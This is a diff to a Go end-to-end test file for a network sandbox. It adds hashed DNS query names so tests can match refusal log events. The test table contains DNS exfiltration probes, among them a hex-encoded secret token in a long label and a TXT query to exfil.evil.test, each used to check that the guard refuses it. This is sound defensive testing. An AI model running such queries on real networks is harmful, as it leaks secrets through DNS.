@@ -1,7 +1,9 @@
 package e2e
 
 import (
+	"crypto/sha256"
 	"encoding/base64"
+	"encoding/hex"
 	"fmt"
 	"net/netip"
 	"regexp"
@@ -79,6 +81,11 @@ type Attempt struct {
 	// Log are strings one denial or drop event of the sandbox must hold
 	// (in its JSON form), after expansion. Empty means {{mark}}.
 	Log []string
+	// QName is the name a DNS attempt asks (placeholders as in Cmd), for
+	// {{qname}} and {{qnamehash}}: dnsd keeps a name an exfiltration guard
+	// refused only cut short, with the hash of the whole
+	// (docs/events.md, dns.qname_sha256), so its event is found by that.
+	QName string
 	// LocalOK: the sandbox's own kernel may refuse it (EPERM without
 	// CAP_NET_RAW, no IPv6 route) before any packet leaves; then there is
 	// nothing on the wire to log, and the exec record is the evidence.
@@ -147,6 +154,14 @@ func (e Env) Expand(a Attempt, mark string) (string, error) {
 		"canaryoct":    fmt.Sprintf("0%o.0%o.0%o.0%o", c4[0], c4[1], c4[2], c4[3]),
 		"canaryshort":  fmt.Sprintf("%d.%d.%d", c4[0], c4[1], uint16(c4[2])<<8|uint16(c4[3])),
 	}
+	if a.QName != "" {
+		qname, err := expand(a.QName, pairs)
+		if err != nil {
+			return "", fmt.Errorf("attempt %s: qname: %w", a.Name, err)
+		}
+		sum := sha256.Sum256([]byte(strings.ToLower(strings.TrimSuffix(qname, ".") + ".")))
+		pairs["qname"], pairs["qnamehash"] = qname, hex.EncodeToString(sum[:16])
+	}
 	if a.Raw != "" {
 		raw, err := expand(strings.ReplaceAll(a.Raw, "\n", "\r\n"), pairs)
 		if err != nil {
@@ -168,7 +183,7 @@ func (e Env) ExpandLog(a Attempt, mark string) ([]string, error) {
 	}
 	out := make([]string, 0, len(a.Log))
 	for _, l := range a.Log {
-		s, err := e.Expand(Attempt{Name: a.Name, Cmd: l}, mark)
+		s, err := e.Expand(Attempt{Name: a.Name, Cmd: l, QName: a.QName}, mark)
 		if err != nil {
 			return nil, err
 		}
@@ -288,11 +303,15 @@ var Attempts = []Attempt{
 
 	// DNS exfiltration through names.
 	{Name: "exfil-long-label-allowed-parent", Class: ClassExfil,
-		Cmd:     "{{probe}} dns udp resolv 53 {{mark}}6d792d7365637265742d746f6b656e2d76616c75652d31.pkg.example.test A",
-		Refused: "a label over dns.max_label is refused by dnsd and never forwarded"},
+		QName:   "{{mark}}6d792d7365637265742d746f6b656e2d76616c75652d31.pkg.example.test",
+		Cmd:     "{{probe}} dns udp resolv 53 {{qname}} A",
+		Refused: "a label over dns.max_label is refused by dnsd and never forwarded, and logged only cut short with its hash",
+		Log:     []string{"{{qnamehash}}", `"qname_truncated":true`, "dns.max_label"}},
 	{Name: "exfil-long-name-allowed-parent", Class: ClassExfil,
-		Cmd:     "{{probe}} dns udp resolv 53 {{mark}}.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.ccccccccccccccccccccccccccccccccccc.ddddddddddddddddddddddddddddddd.pkg.example.test A",
-		Refused: "a name over dns.max_name is refused and never forwarded"},
+		QName:   "{{mark}}.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.ccccccccccccccccccccccccccccccccccc.ddddddddddddddddddddddddddddddd.pkg.example.test",
+		Cmd:     "{{probe}} dns udp resolv 53 {{qname}} A",
+		Refused: "a name over dns.max_name is refused and never forwarded, and logged only cut short with its hash",
+		Log:     []string{"{{qnamehash}}", `"qname_truncated":true`, "dns.max_name"}},
 	{Name: "exfil-txt-denied-zone", Class: ClassExfil, Cmd: "{{probe}} dns udp resolv 53 {{mark}}.exfil.evil.test TXT",
 		Refused: "the zone is not allowed: NXDOMAIN without forwarding"},
 	{Name: "exfil-txt-allowed-name", Class: ClassExfil, Cmd: "{{probe}} dns udp resolv 53 {{mark}}.pkg.example.test TXT",
